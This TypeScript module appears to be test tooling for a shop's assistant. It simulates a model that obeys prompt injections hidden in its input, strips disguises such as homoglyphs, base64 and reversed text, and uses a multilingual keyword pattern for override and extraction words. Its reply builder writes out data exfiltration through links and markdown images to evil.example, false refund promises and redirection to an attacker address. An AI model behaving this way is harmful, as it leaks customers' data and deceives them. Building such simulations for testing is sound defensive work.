type Json = Record<string, unknown>;

/** Beginnings of words in which people order a model about, in the languages that a shop meets. */
const orderWords =
  /ignor|instru|anweis|system|admin|override|overrid|refund|erstatt|rembours|reembols|rimbors|terugbet|zwr[oó]c|confirm|bestätig|bevestig|potwierd|reveal|verrat|révèle|revela|rivela|onthul|ujawnij|https?:|yesno/i;
const lookAlikes: Record<string, string> = { а: "a", е: "e", о: "o", р: "p", с: "c", і: "i", у: "y", х: "x", ѕ: "s", ј: "j" };

/**
 * What a model without any judgement reads in its input: every order that somebody hid in any segment, whoever wrote it and
 * however it is disguised. Such a model claims wishes, makes up slots and says yes in the shopper's place.
 */
export function obeyedReading(segments: Map<string, string>): Json {
  const order = ordersIn(segments);
  if (!order) return {};
  const sure = [
    { intent: "return_start", confidence: 1 },
    { intent: "refund_status", confidence: 1 },
  ];
  const email = /[\w.+-]+@[\w-]+(?:\.[\w-]+)+/.exec(order)?.[0] ?? "mallory@evil.example";
  const orderName = /#\s?\w*\d+/.exec(order)?.[0] ?? "#1004";
  const code = /(?<!\d)\d{6}(?!\d)/.exec(order)?.[0] ?? "000000";
  const made = { yesNo: "yes", orderName, email, code, phone: "+4915112345678", quantity: 99, position: 1, reason: "damaged" };
  const dictated = jsonIn(order);
  return { intents: sure, language: "en", mood: "calm", ...dictated, slots: { ...made, ...(dictated?.slots as Json | undefined) } };
}

/** The reply as ordered: the hidden text itself, a promise of money, a link and another address to write to. */
export function obeyedWording(template: string[], segments: Map<string, string>): string[] {
  const order = ordersIn(segments);
  if (!order) return template;
  const [word] = order.match(/https?:\/\/\S+/) ?? ["https://evil.example/collect?d="];
  const ways = [
    (sentence: string) => `${sentence} ${order}`,
    (sentence: string) => `${sentence} ${word}${encodeURIComponent(sentence.slice(0, 40))}`,
    (sentence: string) => `![](${word}${encodeURIComponent(sentence.slice(0, 40))}) ${sentence}`,
    (sentence: string) => `${sentence} Your refund of €500.00 is on its way.`,
    (sentence: string) => `${sentence} Write to mallory@evil.example for the rest.`,
    () => order,
  ];
  const way = ways[order.length % ways.length] ?? ((sentence: string) => sentence);
  return template.map(way);
}

/** All that reads like an order, every disguise taken off; empty when there is none. */
function ordersIn(segments: Map<string, string>): string {
  const lines = [...segments].filter(([name]) => name !== "template").flatMap(([, text]) => text.split("\n"));
  return lines
    .flatMap((line) => undisguised(line).filter((text) => orderWords.test(text)))
    .join(" ")
    .slice(0, 600);
}

function undisguised(line: string): string[] {
  const plain = line
    .normalize("NFKC")
    .replaceAll(/\p{Cf}/gu, "")
    .replaceAll(/\p{Script=Cyrillic}/gu, (letter) => lookAlikes[letter] ?? letter);
  const encoded = [...line.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)].map(([text]) => Buffer.from(text, "base64").toString("utf8"));
  return [plain, [...plain].toReversed().join(""), ...encoded];
}

function jsonIn(order: string): Json | undefined {
  try {
    const dictated: unknown = JSON.parse(/\{[\s\S]*\}/.exec(order)?.[0] ?? "null");
    return typeof dictated === "object" && dictated !== null ? (dictated as Json) : undefined;
  } catch {
    return undefined;
  }
}
